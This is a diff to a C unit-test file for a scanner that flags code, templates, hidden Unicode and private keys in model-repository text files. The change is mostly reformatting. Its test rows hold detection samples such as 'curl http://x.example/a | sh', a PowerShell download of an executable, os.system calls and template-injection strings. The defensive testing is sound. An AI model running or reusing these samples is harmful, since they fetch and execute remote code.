@@ -21,9 +21,16 @@ struct row {
 
 #define CODE "GH-TXT-0001"
 static const struct row rows[] = {
-	{ "prose", "README", GH_SPAN("# A model\n\nIt classifies pictures. Install with pip and import os friendly things.\n"), NULL },
-	{ "UTF-8 with a mark", "", GH_SPAN("\xef\xbb\xbfGr\xc3\xbc\xc3\x9f" "e\n"), NULL },
-	{ "Latin-1", "", GH_SPAN("Gr\xfc\xdf" "e aus M\xfcnchen\n"), NULL },
+	{ "prose", "README",
+	  GH_SPAN("# A model\n\nIt classifies pictures. Install with pip and import os friendly things.\n"), NULL },
+	{ "UTF-8 with a mark", "",
+	  GH_SPAN("\xef\xbb\xbfGr\xc3\xbc\xc3\x9f"
+		  "e\n"),
+	  NULL },
+	{ "Latin-1", "",
+	  GH_SPAN("Gr\xfc\xdf"
+		  "e aus M\xfcnchen\n"),
+	  NULL },
 	{ "UTF-16", "", GH_SPAN("\xff\xfeh\0i\0\n\0"), NULL },
 	{ "UTF-16, big end", "", GH_SPAN("\xfe\xff\0h\0i\0\n"), NULL },
 	{ "numbers", "data.csv", GH_SPAN("a,b\n1,2\n3,4\n"), NULL },
@@ -31,17 +38,21 @@ static const struct row rows[] = {
 	{ "word list", "vocab.txt", GH_SPAN("[PAD]\n[UNK]\n{{\n}}\n{%\n%}\nimport\ndef\n\xe2\x80\xae\n"), NULL },
 	{ "merges", "merges.txt", GH_SPAN("#version: 0.2\n\xc4\xa0 t\n\xc4\xa0 a\n{ {\n"), NULL },
 	{ "JSON", "config.json", GH_SPAN("{\"model_type\": \"bert\", \"hidden_size\": 768}"), NULL },
-	{ "JSON word list", "vocab.json", GH_SPAN("{\"{{\": 1, \"}}\": 2, \"{%\": 3, \"import\": 4, \"exec\": 5}"), NULL },
-	{ "a code block in a document", "README.md", GH_SPAN("# Use\n```python\nimport torch\ndef f(x):\n    pass\n```\nDone.\n"), NULL },
+	{ "JSON word list", "vocab.json", GH_SPAN("{\"{{\": 1, \"}}\": 2, \"{%\": 3, \"import\": 4, \"exec\": 5}"),
+	  NULL },
+	{ "a code block in a document", "README.md",
+	  GH_SPAN("# Use\n```python\nimport torch\ndef f(x):\n    pass\n```\nDone.\n"), NULL },
 	{ "BibTeX", "README.md", GH_SPAN("@article{x, title = {{A Title}}, year={{2024}} }\n"), NULL },
 	{ "a flag", "", GH_SPAN("\xf0\x9f\x8f\xb4\xf3\xa0\x81\xa7\xf3\xa0\x81\xa2\xf3\xa0\x81\xbf is a flag\n"), NULL },
 	{ "Python", "", GH_SPAN("import os\nos.system('id')\n"), CODE " 0+26 identified, not read: Python source" },
 	{ "Python of one line", "notes.txt", GH_SPAN("__import__('os').system('id')"), CODE },
-	{ "Python behind a docstring", "", GH_SPAN("\"\"\"Harmless words.\"\"\"\nfrom os import system as s\ns('id')\n"), CODE },
+	{ "Python behind a docstring", "",
+	  GH_SPAN("\"\"\"Harmless words.\"\"\"\nfrom os import system as s\ns('id')\n"), CODE },
 	{ "Python in a fence that never closes", "", GH_SPAN("```\nimport os\nos.system('id')\n"), CODE },
 	{ "Python by name only", "handler.PY", GH_SPAN("x = 1\n"), CODE },
 	{ "a file of the archive by name", "a/b/modeling.py", GH_SPAN("x = 1\n"), CODE },
-	{ "shell", "", GH_SPAN("set -e\ncurl http://x.example/a | sh\n"), CODE " 0+36 identified, not read: shell script" },
+	{ "shell", "", GH_SPAN("set -e\ncurl http://x.example/a | sh\n"),
+	  CODE " 0+36 identified, not read: shell script" },
 	{ "JavaScript", "", GH_SPAN("const x = require('child_process');\nx.exec('id')\n"), CODE },
 	{ "batch", "", GH_SPAN("@ECHO OFF\nstart calc\n"), CODE },
 	{ "PowerShell", "", GH_SPAN("Invoke-WebRequest http://x.example -OutFile a.exe\n"), CODE },
@@ -54,17 +65,23 @@ static const struct row rows[] = {
 	{ "HTML", "", GH_SPAN("<!DOCTYPE html>\n<p>x\n"), CODE },
 	{ "a script in Markdown", "README.md", GH_SPAN("# Hi\n<SCRIPT src=x></script>\n"), CODE },
 	{ "XML", "", GH_SPAN("<?xml version=\"1.0\"?>\n<a/>\n"), CODE },
-	{ "a template", "", GH_SPAN("{% for m in messages %}{{ m.content }}{% endfor %}"), CODE " 0+50 identified, not read: template" },
+	{ "a template", "", GH_SPAN("{% for m in messages %}{{ m.content }}{% endfor %}"),
+	  CODE " 0+50 identified, not read: template" },
 	{ "a template expression in prose", "", GH_SPAN("Hello {{ self.__init__ }} there\n"), CODE },
 	{ "a template inside JSON", "x.json", GH_SPAN("{\"t\": \"{{ x['a'] }}\"}"), CODE },
 	{ "an escaped template inside JSON", "", GH_SPAN("{\"t\": \"\\u007b\\u007b x.y }}\"}"), CODE },
 	{ "remote code in a configuration", "", GH_SPAN("{\"auto_map\": {\"AutoModel\": \"a/b--c.D\"}}"), CODE },
 	{ "the same, escaped", "", GH_SPAN("{\"auto\\u005fmap\": {\"AutoModel\": \"a/b--c.D\"}}"), CODE },
-	{ "an override", "", GH_SPAN("access \xe2\x80\xae" "level admin\n"), "GH-TXT-0002" },
+	{ "an override", "",
+	  GH_SPAN("access \xe2\x80\xae"
+		  "level admin\n"),
+	  "GH-TXT-0002" },
 	{ "an embedding that stays open", "", GH_SPAN("if user \xe2\x81\xa6 admin then\n"), "GH-TXT-0002" },
 	{ "hidden tag characters", "", GH_SPAN("hello\xf3\xa0\x81\xa9\xf3\xa0\x81\xa7 you\n"), "GH-TXT-0002" },
-	{ "hidden selectors", "", GH_SPAN("a\xf3\xa0\x84\x80\xf3\xa0\x84\x81\xf3\xa0\x84\x82\xf3\xa0\x84\x83 b\n"), "GH-TXT-0002" },
-	{ "a private key", "README.md", GH_SPAN("-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAxxxx\n-----END RSA PRIVATE KEY-----\n"),
+	{ "hidden selectors", "", GH_SPAN("a\xf3\xa0\x84\x80\xf3\xa0\x84\x81\xf3\xa0\x84\x82\xf3\xa0\x84\x83 b\n"),
+	  "GH-TXT-0002" },
+	{ "a private key", "README.md",
+	  GH_SPAN("-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAxxxx\n-----END RSA PRIVATE KEY-----\n"),
 	  "GH-TXT-0003" },
 };
 
@@ -77,7 +94,8 @@ static void readings(void **state)
 		for (int unstable = 0; unstable < 2; unstable++) {
 			struct gh_events ev;
 			gh_events_walk(&ev, &gh_fmt_text, rows[i].in, rows[i].name, unstable != 0);
-			bool ok = rows[i].say == NULL ? !gh_events_has(&ev, "anomaly") : gh_events_has(&ev, rows[i].say);
+			bool ok = rows[i].say == NULL ? !gh_events_has(&ev, "anomaly")
+						      : gh_events_has(&ev, rows[i].say);
 			if (!ok || ev.rc != GH_OK || !ev.gapless)
 				fail_msg("%s: rc %d\n%s", rows[i].what, ev.rc, gh_buf_cstr(&ev.log));
 			gh_events_free(&ev);
@@ -89,8 +107,16 @@ static void no_text(void **state)
 {
 	(void)state;
 	static const struct gh_span in[] = {
-		GH_SPAN(""), GH_SPAN("a\0b"), GH_SPAN("a\x1b[31m"), GH_SPAN("\x7f"), GH_SPAN("\x80\x81\x8d"), GH_SPAN("ab\xff\xff\xff\xff\xff\xff"),
-		GH_SPAN("\xff\xfe\0\0"), GH_SPAN("\xff\xfe\0\xdc" "a\0"), GH_SPAN("\xff\xfe"),
+		GH_SPAN(""),
+		GH_SPAN("a\0b"),
+		GH_SPAN("a\x1b[31m"),
+		GH_SPAN("\x7f"),
+		GH_SPAN("\x80\x81\x8d"),
+		GH_SPAN("ab\xff\xff\xff\xff\xff\xff"),
+		GH_SPAN("\xff\xfe\0\0"),
+		GH_SPAN("\xff\xfe\0\xdc"
+			"a\0"),
+		GH_SPAN("\xff\xfe"),
 	};
 	for (size_t i = 0; i < sizeof in / sizeof in[0]; i++) {
 		struct gh_probe p = { in[i], in[i], in[i].n };
@@ -103,7 +129,8 @@ static void no_text(void **state)
 static void long_text(void **state)
 {
 	(void)state;
-	static const char *const unit[] = { "0123456789 a line of words\n", "\xe2\x82\xac without any line end ", "M\xfcnchen\r\n" };
+	static const char *const unit[] = { "0123456789 a line of words\n", "\xe2\x82\xac without any line end ",
+					    "M\xfcnchen\r\n" };
 	for (size_t u = 0; u < 3; u++) {
 		struct gh_test_bytes b = { 0 };
 		while (b.n < 300000)
@@ -144,9 +171,18 @@ static void names(void **state)
 	(void)state;
 	static const struct {
 		const char *name, *language;
-	} n[] = { { "a.py", "Python source" }, { "A.SH", "shell script" }, { "x/Dockerfile.gpu", "Dockerfile" },
-		  { "a.txt", NULL }, { "py", NULL }, { ".py", "Python source" }, { "", NULL }, { "a.py/readme", NULL },
-		  { "dir.d\\run.bat", "batch file" }, { "model.ipynb", "notebook" }, { "LICENSE", NULL }, { "x.", NULL } };
+	} n[] = { { "a.py", "Python source" },
+		  { "A.SH", "shell script" },
+		  { "x/Dockerfile.gpu", "Dockerfile" },
+		  { "a.txt", NULL },
+		  { "py", NULL },
+		  { ".py", "Python source" },
+		  { "", NULL },
+		  { "a.py/readme", NULL },
+		  { "dir.d\\run.bat", "batch file" },
+		  { "model.ipynb", "notebook" },
+		  { "LICENSE", NULL },
+		  { "x.", NULL } };
 	for (size_t i = 0; i < sizeof n / sizeof n[0]; i++) {
 		const char *l = gh_lang_by_name(gh_span_str(n[i].name));
 		if ((l == NULL) != (n[i].language == NULL) || (l != NULL && strcmp(l, n[i].language) != 0))
@@ -157,7 +193,7 @@ static void names(void **state)
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
-		cmocka_unit_test(readings), cmocka_unit_test(no_text), cmocka_unit_test(long_text),
+		cmocka_unit_test(readings),	     cmocka_unit_test(no_text), cmocka_unit_test(long_text),
 		cmocka_unit_test(code_across_steps), cmocka_unit_test(names),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
